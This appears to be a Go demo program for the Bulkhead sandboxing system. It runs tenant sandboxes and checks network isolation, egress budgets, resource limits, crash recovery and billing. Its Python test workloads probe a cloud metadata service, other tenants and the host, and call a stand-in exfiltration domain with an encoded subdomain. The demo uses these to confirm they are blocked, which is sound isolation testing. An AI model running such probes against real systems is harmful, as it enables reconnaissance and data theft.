// SPDX-License-Identifier: Apache-2.0

// Command demo shows Bulkhead's whole job with real parts: real containerd and
// runc, real network namespaces and eBPF, a real gateway with a real ledger.
// Every line marked "ok" is a check; one that fails makes the exit code 1. It
// leaves nothing behind.
package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"os/signal"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/bulkheadhq/bulkhead/test/rig"
)

const (
	busybox = "bulkhead.local/busybox:1"
	python  = "bulkhead.local/python:3"
	moved   = 64 << 20
)

func main() {
	start := time.Now()
	d := &demo{ctx: context.Background()}
	fmt.Println("Bulkhead demo: three customers, real sandboxes, one bill")
	stop := make(chan os.Signal, 1)
	signal.Notify(stop, syscall.SIGINT, syscall.SIGTERM)
	done := make(chan error, 1)
	go func() { done <- d.run() }()
	var err error
	select {
	case err = <-done:
	case s := <-stop:
		err = fmt.Errorf("ended by %s", s)
	}
	if d.rig != nil {
		if err != nil {
			fmt.Printf("\nthe agent's log ends with:\n%s\n", d.rig.AgentLog())
		}
		err = errors.Join(err, d.rig.Close())
	}
	left, lerr := rig.Leftovers()
	err = errors.Join(err, lerr)
	d.check("nothing left on the machine: no link, namespace, mount, cgroup or nft table", len(left) == 0, strings.Join(left, ", "))
	fmt.Printf("\n%d checks passed, %d failed, in %.0f s\n", d.passed, d.failed, time.Since(start).Seconds())
	if err != nil {
		fmt.Fprintln(os.Stderr, "demo:", err)
	}
	if err != nil || d.failed > 0 {
		os.Exit(1)
	}
}

type demo struct {
	ctx            context.Context
	rig            *rig.Rig
	passed, failed int
}

func (d *demo) check(what string, ok bool, detail string) {
	if ok {
		d.passed++
		fmt.Printf("  ok    %s\n", what)
		return
	}
	d.failed++
	fmt.Printf("  FAIL  %s: %s\n", what, detail)
}

func (d *demo) head(format string, args ...any) { fmt.Printf("\n"+format+"\n", args...) }

// show runs a CLI command as a user would and prints both.
func (d *demo) show(args ...string) (string, int) {
	var words []string
	for _, a := range args {
		switch {
		case strings.Contains(a, "\n") || len(a) > 60:
			a = "'...'"
		case strings.ContainsAny(a, " ;&|"):
			a = "'" + a + "'"
		}
		words = append(words, a)
	}
	fmt.Printf("  $ bulkhead %s\n", strings.Join(words, " "))
	out, err := d.rig.CLI(args...)
	for line := range strings.Lines(out) {
		fmt.Printf("    %s\n", strings.TrimRight(line, "\n"))
	}
	return out, rig.ExitCode(err)
}

func (d *demo) run() (err error) {
	repo, err := os.Getwd()
	if err != nil {
		return err
	}
	d.rig, err = rig.Open(rig.Config{
		Progress: os.Stdout,
		Images:   []string{filepath.Join(repo, "build/images/busybox.tar"), filepath.Join(repo, "build/images/python.tar")},
	})
	if err != nil {
		return err
	}
	if d.rig.NotUnified {
		fmt.Println("  note: this host has no unified cgroup v2, so not everything is enforced here (`make demo-vm` runs")
		fmt.Println("  the same demo in a guest where it is):")
		d.show("node")
	}
	for _, part := range []func() error{d.tenants, d.agents, d.names, d.limits, d.crash, d.refusals, d.bill} {
		if err := part(); err != nil {
			return err
		}
	}
	return nil
}

func (d *demo) tenants() error {
	d.head("1. Customers who do not trust each other share this node")
	out, code := d.show("tenant", "ls")
	d.check("all three are there", code == 0 && strings.Contains(out, "acme") && strings.Contains(out, "globex") && strings.Contains(out, "hooli"), out)
	return nil
}

// agentSandbox starts a long-running sandbox and answers its record.
func (d *demo) agentSandbox(tenant, name string) (record, error) {
	_, code := d.show("run", "-d", "--name", name, "--tenant", tenant, "--cpus", "0.5", "--memory", "128MiB", python, "sleep", "3600")
	if code != 0 {
		return record{}, fmt.Errorf("start %s: exit %d", name, code)
	}
	return d.get(name)
}

// record is what the demo reads of `bulkhead get -o json`.
type record struct {
	Sandbox struct {
		ID        string   `json:"id"`
		State     string   `json:"state"`
		Pid       string   `json:"pid"`
		Addresses []string `json:"addresses"`
		Exit      struct {
			Reason  string `json:"reason"`
			Message string `json:"message"`
		} `json:"exit"`
	} `json:"sandbox"`
	Network struct {
		EgressBytes  string `json:"egress_bytes"`
		IngressBytes string `json:"ingress_bytes"`
	} `json:"network"`
	Events []struct {
		Kind    string `json:"kind"`
		Message string `json:"message"`
	} `json:"events"`
	Drops []struct {
		Reason  string `json:"reason"`
		Packets string `json:"packets"`
	} `json:"drops"`
	Rules []struct {
		Tenant  string `json:"tenant"`
		Rule    string `json:"rule"`
		Packets string `json:"packets"`
	} `json:"rules"`
}

func (d *demo) get(ref string) (record, error) {
	out, err := d.rig.CLI("get", "-o", "json", ref)
	if err != nil {
		return record{}, fmt.Errorf("get %s: %w: %s", ref, err, out)
	}
	var r record
	if err := json.Unmarshal([]byte(out), &r); err != nil {
		return record{}, fmt.Errorf("get %s: %w: %s", ref, err, out)
	}
	return r, nil
}

// workload is what an agent might do: call its API, and whatever else comes to
// its mind. It prints one line per attempt.
const workload = `
import socket, sys, urllib.request
api, others, moved = sys.argv[1], sys.argv[2:-1], int(sys.argv[-1])
try:
    print("api", urllib.request.urlopen("http://%s/v1/models" % api, timeout=5).read().decode().strip())
except Exception as e:
    print("api failed:", e)
for target in others:
    host, port = target.rsplit("@", 1)
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
    s.settimeout(1.0)
    try:
        s.connect((host, int(port)))
        print("REACHED", host, port)
    except Exception as e:
        print("blocked", host, port, type(e).__name__)
    s.close()
body = b"x" * (1 << 20)
def chunks():
    for _ in range(moved >> 20):
        yield body
req = urllib.request.Request("http://%s/v1/upload" % api, data=chunks(), headers={"Content-Length": str(moved)})
try:
    print("moved", urllib.request.urlopen(req, timeout=60).read().decode().strip())
except Exception as e:
    print("move failed:", e)
`

func (d *demo) agents() error {
	d.head("2. Each customer's agent calls its API over HTTP, then tries what it should not")
	type running struct {
		tenant, name string
		rec          record
		capture      *rig.Capture
	}
	agents := []*running{{tenant: "acme", name: "acme-agent"}, {tenant: "globex", name: "globex-agent"}}
	api := func(a netip.Addr) bool { return a == rig.API4 || a == rig.API6 }
	for _, a := range agents {
		var err error
		if a.rec, err = d.agentSandbox(a.tenant, a.name); err != nil {
			return err
		}
		if a.capture, err = rig.OpenCapture(rig.LinkPrefix+a.rec.Sandbox.ID, api); err != nil {
			return err
		}
	}
	for i, a := range agents {
		neighbour := agents[1-i].rec.Sandbox.Addresses
		targets := []string{
			rig.Forbidden4.String() + "@80", rig.Forbidden6.String() + "@80", // nobody may reach it
			rig.Metadata4.String() + "@80", // cloud metadata
			neighbour[0] + "@80", neighbour[1] + "@80",
			"203.0.113.1@80", // the node itself
		}
		args := append([]string{"exec", a.name, "python3", "-c", workload, rig.API4.String()}, targets...)
		out, code := d.show(append(args, strconv.Itoa(moved))...)
		d.check(a.tenant+": the allowed API answers", code == 0 && strings.Contains(out, "api says hello"), out)
		d.check(a.tenant+": forbidden host, metadata, the other tenant and the node are out of reach",
			!strings.Contains(out, "REACHED") && strings.Count(out, "blocked") == len(targets), out)
		d.check(a.tenant+": 64 MiB moved", strings.Contains(out, fmt.Sprintf("%d bytes received", moved)), out)
	}
	d.check("the forbidden host and the metadata service saw no connection", d.rig.Net.Requests("far") == 0 && d.rig.Net.Requests("meta") == 0, "they did")

	d.head("3. Why: the program that decides answers")
	for _, q := range []struct{ args, want string }{
		{"acme-agent tcp " + rig.API4.String() + ":80", "ALLOW"},
		{"acme-agent tcp " + rig.Forbidden4.String() + ":443", "DENY"},
		{"acme-agent tcp " + rig.Metadata4.String() + ":80", "DENY"},
		{"acme-agent tcp " + agents[1].rec.Sandbox.Addresses[0] + ":80", "DENY"},
		{"globex-agent tcp " + rig.API4.String() + ":443", "DENY"},
	} {
		out, code := d.show(append([]string{"explain"}, strings.Fields(q.args)...)...)
		d.check(q.want+" "+q.args, code == 0 && strings.HasPrefix(out, q.want), out)
	}
	d.show("get", "acme-agent")

	d.head("4. The bytes billed are the bytes on the wire")
	for _, a := range agents {
		total, err := a.capture.Stop()
		if err != nil {
			return err
		}
		sent, received, err := d.billed(a.rec.Sandbox.ID, total)
		if err != nil {
			return err
		}
		fmt.Printf("    %-7s capture on %s: %d bytes out, %d in; gateway's ledger: %d out, %d in\n",
			a.tenant, rig.LinkPrefix+a.rec.Sandbox.ID, total.Sent, total.Received, sent, received)
		d.check(a.tenant+": ledger equals capture, to the byte", sent == total.Sent && received == total.Received && sent > moved, "they differ")
	}
	return nil
}

// crawl asks each URL, then sends until nothing gets through any more.
const crawl = `
import sys, urllib.request
for url in sys.argv[1:]:
    try:
        print(url, "answers:", urllib.request.urlopen(url, timeout=5).read().decode().strip())
    except Exception as e:
        print(url, "fails:", e.reason if hasattr(e, "reason") else e)
try:
    urllib.request.urlopen("http://api.example.com/upload", data=b"x" * (4 << 20), timeout=2)
    print("4 MiB sent")
except Exception as e:
    print("4 MiB not sent:", type(e).__name__)
`

func (d *demo) names() error {
	d.head("5. Names, a byte budget, and a log of what was tried")
	const budget = 1 << 20
	if _, err := d.agentSandbox("hooli", "crawler"); err != nil {
		return err
	}
	out, _ := d.show("exec", "crawler", "python3", "-c", crawl, "http://api.example.com/", "http://eu.models.example.com/", "http://c2vjcmv0.exfil.example.org/", "http://"+rig.Forbidden4.String()+"/")
	d.check("names that a rule allows resolve and answer", strings.Count(out, "answers:") == 2, out)
	d.check("another name is refused, and no resolver has heard of it",
		strings.Count(out, "fails:") == 2 && d.rig.Net.Asked("c2vjcmv0.exfil.example.org") == 0, out)
	rec, err := d.get("crawler")
	if err != nil {
		return err
	}
	spent, _ := strconv.Atoi(rec.Network.EgressBytes)
	d.check("of 4 MiB no more left than its tenant's budget of 1 MiB", strings.Contains(out, "not sent") && spent <= budget && spent > budget/2, out)
	out, _ = d.show("explain", "crawler", "c2vjcmv0.exfil.example.org:80")
	d.check("DENY the name", strings.HasPrefix(out, "DENY"), out)
	d.show("explain", "crawler", "api.example.com:80")
	out, _ = d.show("flows", "crawler")
	d.check("the flow log has the lookups, the refusal and the spent budget",
		strings.Contains(out, "api.example.com") && strings.Contains(out, "c2vjcmv0.exfil.example.org") && strings.Contains(out, "budget"), out)
	out, _ = d.show("policy", "status", "crawler")
	d.check("the policy's state names rules, hits, budget and names", strings.Contains(out, "model-api") && strings.Contains(out, "1MiB"), out)
	if out, err := d.rig.CLI("rm", "-f", "crawler"); err != nil {
		return fmt.Errorf("remove crawler: %w: %s", err, out)
	}
	return nil
}

// billed reads a sandbox's bytes from the gateway's ledger, once they have got
// there.
func (d *demo) billed(id string, want rig.Counted) (sent, received uint64, err error) {
	for range 50 {
		if sent, received, err = d.ledgerBytes(id); err != nil {
			return 0, 0, err
		}
		if sent >= want.Sent && received >= want.Received {
			break
		}
		time.Sleep(200 * time.Millisecond)
	}
	return sent, received, nil
}

func (d *demo) ledgerBytes(id string) (sent, received uint64, err error) {
	out, err := d.rig.CLI("usage", "--gateway", d.rig.Gateway, "--sandbox", id, "-o", "json")
	if err != nil {
		return 0, 0, fmt.Errorf("usage: %w: %s", err, out)
	}
	for line := range strings.Lines(out) {
		var row struct {
			Meter string `json:"meter"`
			Total string `json:"total"`
		}
		if err := json.Unmarshal([]byte(line), &row); err != nil {
			return 0, 0, fmt.Errorf("usage: %w: %s", err, line)
		}
		n, _ := strconv.ParseUint(row.Total, 10, 64)
		switch row.Meter {
		case "egress_bytes":
			sent = n
		case "ingress_bytes":
			received = n
		}
	}
	return sent, received, nil
}

func (d *demo) limits() error {
	d.head("6. Limits hold")
	const burn = `
import time
begin, used = time.monotonic(), time.process_time()
while time.monotonic() < begin + 3:
    pass
print("burned %.2f CPU seconds in 3 s" % (time.process_time() - used))
`
	out, code := d.show("run", "--rm", "--tenant", "acme", "--cpus", "0.2", "--memory", "64MiB", python, "python3", "-c", burn)
	var used float64
	_, err := fmt.Sscanf(out, "burned %f", &used)
	d.check("burning CPU against a limit of 0.2 cores gets no more than that", code == 0 && err == nil && used < 0.95, out)

	out, code = d.show("run", "--name", "greedy", "--tenant", "globex", "--cpus", "0.25", "--memory", "64MiB", python,
		"python3", "-c", "data = []\nwhile True: data.append(bytearray(1 << 20))")
	rec, err := d.get("greedy")
	if err != nil {
		return err
	}
	d.check("allocating past 64 MiB is killed, and the record says why", code == 137 && strings.Contains(rec.Sandbox.Exit.Reason, "OOM"),
		fmt.Sprintf("exit %d, %+v: %s", code, rec.Sandbox.Exit, out))
	return nil
}

func (d *demo) crash() error {
	d.head("7. kill -9 of the agent changes nothing for the sandboxes")
	const loop = `
import time, urllib.request
while True:
    urllib.request.urlopen("http://203.0.113.10/tick", timeout=30).read()
    time.sleep(0.05)
`
	_, code := d.show("run", "-d", "--name", "ticker", "--tenant", "acme", "--cpus", "1", "--memory", "96MiB", python, "python3", "-c", loop)
	if code != 0 {
		return fmt.Errorf("start ticker: exit %d", code)
	}
	before, err := d.get("ticker")
	if err != nil {
		return err
	}
	if !d.ticks(3) {
		d.check("the ticker calls its API", false, "no request arrived")
		return nil
	}
	pid := d.rig.AgentPID()
	if err := d.rig.KillAgent(); err != nil {
		return err
	}
	fmt.Printf("  $ kill -9 %d    # bulkhead-agent\n", pid)
	d.check("with no agent, the sandbox still calls its API", d.ticks(5), "no request arrived")
	blocked, err := d.tryFromSandbox(before.Sandbox.Pid)
	if err != nil {
		return err
	}
	d.check("with no agent, the forbidden host is still out of reach", blocked, "it was reached")
	if err := d.rig.StartAgent(); err != nil {
		return err
	}
	fmt.Println("  $ bulkhead-agent &    # a new one")
	after, err := d.adopted("ticker")
	if err != nil {
		return err
	}
	d.check("the new agent adopted it: same command, same addresses", after.Sandbox.Pid == before.Sandbox.Pid && after.Sandbox.ID == before.Sandbox.ID, fmt.Sprintf("%+v", after.Sandbox))
	b, _ := strconv.ParseUint(before.Network.EgressBytes, 10, 64)
	a, _ := strconv.ParseUint(after.Network.EgressBytes, 10, 64)
	d.check("its byte counters went on through the crash", a > b, fmt.Sprintf("%d before, %d after", b, a))
	d.show("ls")
	return nil
}

// ticks waits for n more requests at the API host; long, because an emulated
// guest is slow.
func (d *demo) ticks(n int) bool {
	start := d.rig.Net.Requests("api")
	for range 600 {
		if d.rig.Net.Requests("api") >= start+n {
			return true
		}
		time.Sleep(100 * time.Millisecond)
	}
	return false
}

// tryFromSandbox connects to the forbidden host from inside the network
// namespace of a sandbox's command, without any agent.
func (d *demo) tryFromSandbox(pid string) (blocked bool, err error) {
	reached, err := rig.DialFrom(pid, rig.Forbidden4.String()+":80", time.Second)
	return !reached, err
}

func (d *demo) adopted(ref string) (record, error) {
	for range 100 {
		rec, err := d.get(ref)
		if err == nil {
			for _, e := range rec.Events {
				if e.Kind == "adopted" {
					return rec, nil
				}
			}
		}
		time.Sleep(100 * time.Millisecond)
	}
	return record{}, fmt.Errorf("%s was not adopted", ref)
}

func (d *demo) refusals() error {
	d.head("8. No room, and who says so")
	out, code := d.show("run", "--tenant", "globex", "--cpus", "0.1", "--memory", "4GiB", busybox, "true")
	d.check("a sandbox beyond its tenant's quota is refused with the limit and who set it", code == 1 && strings.Contains(out, "globex"), out)
	out, code = d.show("run", "--tenant", "initech", busybox, "true")
	d.check("a tenant that does not exist is refused", code == 1 && strings.Contains(out, "initech"), out)
	return nil
}

func (d *demo) bill() error {
	d.head("9. The bill")
	out, code := d.show("stop", "--grace", "1s", "acme-agent", "globex-agent", "ticker")
	d.check("all stopped", code == 0, out)
	time.Sleep(1500 * time.Millisecond) // the last records are on their way to the gateway
	out, code = d.show("usage", "--gateway", d.rig.Gateway, "--prices", "deploy/examples/prices.toml")
	d.check("usage per tenant with cost", code == 0 && strings.Contains(out, "acme") && strings.Contains(out, "globex"), out)
	d.show("ls", "-a")
	return nil
}
